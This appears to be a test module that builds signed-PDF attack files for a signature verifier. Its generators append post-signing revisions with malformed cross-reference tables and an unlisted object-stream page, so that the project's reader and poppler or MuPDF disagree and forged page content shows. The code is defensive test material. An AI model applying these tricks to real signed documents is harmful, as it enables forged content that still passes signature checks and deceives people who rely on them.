import { PdfRef, PdfStream, dict, name } from '../../../src/core/pdf/objects.js';
import { serializeValue } from '../../../src/core/pdf-write/serialize.js';
import { forgedText } from '../lib/content-change.js';
import type { AttackContext, Generator } from '../lib/context.js';
import { appendText, identicalCopies, uploadWithSpareObjectStream, uploadWithoutObjectOne } from '../lib/hand-pdf.js';
import { contentStream, layoutOf, withKeys } from '../lib/inspect.js';
import { appendRaw } from '../lib/raw.js';

/**
 * Reader disagreement through the cross-reference table itself: a revision after signing whose table
 * our token reader accepts but another reader repairs, each time by rebuilding its table from a scan
 * that finds what the upload hid (a definition in a stream's data, a spare object stream).
 */
const pad = (n: number): string => String(n).padStart(10, '0');

/** A post-signing revision rewriting object `num` unchanged, its table written by `rows(offset)`. */
function rewriteWithTable(signed: Buffer, num: number, rows: (offset: number) => string, lead = ''): Buffer {
  const copy = identicalCopies(signed, [num]).get(num)!;
  return appendText(signed, (at, prev) => ({
    text: `${copy}\n${lead}xref\n${rows(at)}trailer\n<< /Size 10 /Root 2 0 R /Prev ${prev} >>\n`,
    xrefAt: copy.length + 1,
  }));
}

/** poppler takes a subsection "1 3" opening with the free-list head for one starting at 0, and then rebuilds. */
async function renumberedSubsection(ctx: AttackContext): Promise<Buffer> {
  const signed = await ctx.sign(uploadWithoutObjectOne());
  const copies = identicalCopies(signed, [2, 3]);
  return appendText(signed, (at, prev) => {
    const o3 = at + copies.get(2)!.length + 1;
    const text = `${copies.get(2)}\n${copies.get(3)}\n`;
    return { text: `${text}xref\n1 3\n0000000000 65535 f \n${pad(at)} 00000 n \n${pad(o3)} 00000 n \ntrailer\n<< /Size 8 /Root 2 0 R /Prev ${prev} >>\n`, xrefAt: text.length };
  });
}

/** MuPDF repairs each of these tables, and its repair reads the upload's spare object stream. */
const mupdfRepairs = (rows: (offset: number) => string, lead = ''): Generator => async (ctx) =>
  rewriteWithTable(await ctx.sign(uploadWithSpareObjectStream()), 3, rows, lead);

/** A new object stream holding, unlisted, a page that draws new forged content: what MuPDF's repair would take. */
async function objectStreamWithUnlistedPage(ctx: AttackContext): Promise<Buffer> {
  const signed = await ctx.base('plain');
  const l = layoutOf(signed);
  const page = l.pages[l.pages.length - 1]!;
  const [content, stream] = [l.file.size, l.file.size + 1];
  const head = `${page.ref.num} 0 `;
  const data = Buffer.concat([Buffer.from(head), serializeValue(withKeys(page.dict, { Contents: new PdfRef(content, 0) }))]);
  return appendRaw(signed, [
    { num: content, body: contentStream(forgedText(page)) },
    { num: stream, body: new PdfStream(dict({ Type: name('ObjStm'), N: 1, First: head.length }), data) },
  ]).bytes;
}

export const tableRepairGenerators: Record<string, Generator> = {
  'table-subsection-renumbered': renumberedSubsection,
  'table-startxref-at-comment': mupdfRepairs((o) => `0 1\n0000000000 65535 f \n3 1\n${pad(o)} 00000 n \n`, '%c\n'),
  'table-rows-of-21-bytes': mupdfRepairs((o) => `0 1\n0000000000 65535 f \r\n3 1\n${pad(o)} 00000 n \r\n`),
  'table-offset-with-sign': mupdfRepairs((o) => `0 1\n0000000000 65535 f \n3 1\n+${pad(o).slice(1)} 00000 n \n`),
  'table-row-not-padded': mupdfRepairs((o) => `0 1\n0000000000 65535 f \n3 1\n${o} 0 n \n`),
  'objstm-unlisted-member': objectStreamWithUnlistedPage,
};
